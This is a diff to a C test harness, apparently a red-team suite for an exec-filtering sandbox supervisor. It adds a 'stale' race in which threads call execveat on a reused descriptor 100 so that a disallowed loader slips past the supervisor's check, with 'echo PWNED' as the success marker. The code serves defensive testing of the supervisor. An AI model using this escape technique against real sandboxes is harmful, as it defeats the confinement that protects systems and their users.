@@ -12,6 +12,9 @@
  *   leader  the thread-group leader execs, one thread flips (the plain race)
  *   thread  a thread that is not the leader execs; the leader is busy with notified calls
  *   many    eight threads exec at once, two flip, the leader and four more threads are busy
+ *   stale   descriptor 100 is the loader; a thread execveat(100, "", AT_EMPTY_PATH)s it while a
+ *           child whose descriptor 100 is this program made the supervisor's last exec before
+ *           (red-team finding F12: the decision and the watch follow that child)
  *   decoy   a thread that is not the leader execs (with long arguments, which the kernel copies
  *           after the CONTINUE and before it kills the other threads); the leader meanwhile makes
  *           execs the supervisor allows and the kernel refuses (EFAULT), each followed by notified
@@ -42,6 +45,7 @@ static char path[2][256];
 static const char *self;
 static const char *loader;
 static volatile int started;
+static int attempt_out = -1; /* the write end of the attempt's output pipe (main's copy) */
 static char *child_argv[32] = { NULL, "/usr/bin/sh", "-c", "echo PWNED", NULL };
 static char *child_envp[] = { "RACE_CHILD=1", "PATH=/usr/bin", NULL };
 
@@ -109,6 +113,16 @@ static void *decoy(void *unused)
     return NULL;
 }
 
+/* stale: descriptor 100 of this process is the loader (O_PATH); execveat(100, "", AT_EMPTY_PATH)
+ * in a loop. */
+static void *fd_execer(void *unused)
+{
+    (void)unused;
+    for (;;)
+        syscall(SYS_execveat, 100, "", child_argv, child_envp, AT_EMPTY_PATH);
+    return NULL;
+}
+
 static void spawn(void *(*f)(void *), long arg)
 {
     pthread_t t;
@@ -140,6 +154,38 @@ static void attempt(const char *arrangement)
             spawn(execer, i % 2);
         for (int i = 0; i < 4; i++)
             spawn(busy, 0);
+        busy(NULL);
+    } else if (strcmp(arrangement, "stale") == 0) {
+        /* Our descriptor 100 is the loader. A child's descriptor 100 is this (allowed) program;
+         * the child makes an execve first (it fails), so that the supervisor's last exec target
+         * is the child, then makes notified calls. Our execveat(100, "", AT_EMPTY_PATH) calls
+         * follow. */
+        int lfd = open(loader, O_PATH);
+        if (lfd < 0 || dup2(lfd, 100) < 0)
+            _exit(96);
+        int ready[2];
+        if (pipe(ready) < 0)
+            _exit(96);
+        pid_t q = fork();
+        if (q == 0) {
+            /* Not the attempt's output pipe: the parent reads it to its end. */
+            close(1);
+            close(attempt_out);
+            int sfd = open(self, O_PATH);
+            if (sfd < 0 || dup2(sfd, 100) < 0)
+                _exit(97);
+            char *nav[] = { "x", NULL };
+            execve("/nonexistent-mcpj-test", nav, child_envp);
+            if (write(ready[1], "r", 1) != 1)
+                _exit(98);
+            for (int i = 0; i < 20000; i++)
+                null_open();
+            _exit(0);
+        }
+        char c;
+        if (q < 0 || read(ready[0], &c, 1) != 1)
+            _exit(99);
+        spawn(fd_execer, 0);
         busy(NULL);
     } else if (strcmp(arrangement, "decoy") == 0) {
         /* 15 arguments of 100 kB: about 1.5 MB for the kernel to copy (under the 2 MB a default
@@ -202,7 +248,7 @@ int main(int argc, char **argv)
     self = getenv("SELF");
     loader = getenv("LOADER");
     if (argc < 3 || self == NULL || loader == NULL) {
-        fprintf(stderr, "usage: SELF=path LOADER=path loader-threads leader|thread|many|decoy ATTEMPTS\n");
+        fprintf(stderr, "usage: SELF=path LOADER=path loader-threads leader|thread|many|stale|decoy ATTEMPTS\n");
         return 2;
     }
     child_argv[0] = (char *)self;
@@ -220,6 +266,7 @@ int main(int argc, char **argv)
         if (p < 0)
             return 2;
         if (p == 0) {
+            attempt_out = out[1];
             dup2(out[1], 1); /* whatever runs writes here: sh would write PWNED */
             attempt(arr);
         }
